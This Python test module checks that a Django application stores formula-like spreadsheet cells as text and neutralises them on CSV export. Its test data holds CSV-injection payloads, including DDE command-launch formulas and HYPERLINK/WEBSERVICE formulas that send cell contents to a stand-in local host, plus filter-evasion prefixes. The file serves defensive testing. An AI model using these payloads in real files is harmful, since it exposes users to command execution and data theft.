"""Cells that look like formulas: kept as the text they are, and text in every file going out."""

import csv
import io
from collections.abc import Iterator
from typing import Any

from django.apps import apps

from tests.axe.county import County

from . import doors, files
from .cases import Case, taken
from .sheets import UPLOADED, rejected, stored, text_only

LEADS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%")
TAILS = {
    "cmd": "cmd|' /C calc'!A0",
    "link": 'HYPERLINK("http://127.0.0.1:9/?"&A1,"点我")',
    "web": 'WEBSERVICE("http://127.0.0.1:9/"&A1)',
    "dde": 'DDE("cmd";"/C calc";"1")',
    "sum": "SUM(1+1)*cmd|'/C calc'!A0",
    "image": 'IMAGE("http://127.0.0.1:9/x.png")',
    "plain": "1+1",
}
# What a spreadsheet program takes for a formula although something stands in front.
ODD = {
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "space": "  =1+1",
    "wide-space": "\u3000=1+1",
    "zero-width": "\u200b=1+1",
    "bom": "\ufeff=1+1",
    "quote": '"=1+1"',
    "semicolon": ";=1+1",
    "two": "==1+1",
    "minus-number": "-2+3+cmd|'/C calc'!A0",
    "array": "{=1+1}",
    "apostrophe": "'=1+1",
}
WRITTEN = {
    f"{tail}-{at}": lead + text for at, lead in enumerate(LEADS) for tail, text in TAILS.items()
}


def cases(c: County) -> Iterator[Case]:
    """In names of departments and items, in faulty rows, as real formulas, in file names."""
    for name, text in WRITTEN.items():
        row = doors.place_row("QC-9", text)
        want = {"name": _meant(text)}
        sent = doors.places_file(c, "表.xlsx", files.sheet([doors.PLACES_HEAD, row]))
        yield stored(f"formulas/places/{name}", sent, code="QC-9", want=want)
        bad = doors.csv_of([doors.ITEMS_HEAD, doors.item_row(1, text, taskType="99")])
        yield _marked(c, f"formulas/items/{name}", bad)
    for name, text in {**ODD, **{k: v for k, v in WRITTEN.items() if k.startswith("cmd")}}.items():
        row = doors.place_row("QC-9", "", phone=text)
        sent = doors.places_file(c, "表.csv", doors.csv_of([doors.PLACES_HEAD, row]))
        yield rejected(f"formulas/faulty/{name}", sent, "必须填写", effect="places_faulty")
        bad = doors.csv_of([doors.ITEMS_HEAD, doors.item_row(1, text, taskType="99")])
        yield _marked(c, f"formulas/marked/{name}", bad)
        yield _ledger(c, f"formulas/ledger/{name}", text)
    for name, (formula, kept) in {
        "sum": ("=1+1", 2),
        "text": ('="清川县"&"新局"', "清川县新局"),
        "link": ('=HYPERLINK("http://127.0.0.1:9/","点我")', "点我"),
        "cmd": ("=cmd|'/C calc'!A0", "#REF!"),
        "web": ('=WEBSERVICE("http://127.0.0.1:9/")', "#VALUE!"),
    }.items():
        book = files.formulas([doors.LIST_HEAD, ("a", "")], formula, kept)
        yield _computed(c, f"formulas/real/{name}", book)


def _meant(text: str) -> str:
    """Full-width letters and digits are narrowed on import, signs stay."""
    return text


def _marked(c: County, case_id: str, data: bytes) -> Case:
    """The faulty item's row comes back in a workbook of plain text."""

    def look(scene: Any, client: Any, answer: Any) -> str:
        return text_only(client, f"{answer.url}/errors")

    return taken(case_id, doors.items_file(c, "表.csv", data), effect="items_faulty", look=look)


def _ledger(c: County, case_id: str, text: str) -> Case:
    """A reason on the ledger goes out as CSV text."""

    def look(scene: Any, client: Any, answer: Any) -> str:
        got = scene.client(doors.AUDITOR).get("/manage/ledger/export")
        body = b"".join(got.streaming_content) if got.streaming else got.content
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
            for cell in row:
                number = cell[:1] in "+-" and cell[1:].replace(".", "").isdigit()
                if cell.lstrip()[:1] in tuple("=+-@＝＋－＠|%") and cell.strip() and not number:
                    return f"the export has the cell {cell[:60]!r}"
        return ""

    user = apps.get_model("kernel", "User").objects.get(username=_closed(c))
    sent = doors.Sent(doors.SYSTEM, f"/manage/staff/{user.pk}/close", {"reason": f"{text}停用"})
    may = ("kernel_user", "kernel_ledgerentry", "kernel_ledgerhead")
    return taken(case_id, sent, look=look, may=may)


def _closed(c: County) -> str:
    return str(apps.get_model("kernel", "User").objects.get(pk=c.hall.clerk.user_id).username)


def _computed(c: County, case_id: str, book: bytes) -> Case:
    """A real formula counts as the value it showed; nothing is computed here."""

    def look(scene: Any, client: Any, answer: Any) -> str:
        page = client.get(answer.url)
        return "" if page.status_code == 200 else f"the page answers {page.status_code}"

    may = (*UPLOADED, "kernel_ledgerhead")
    return taken(case_id, doors.list_file(c, "表.xlsx", book), look=look, may=may)
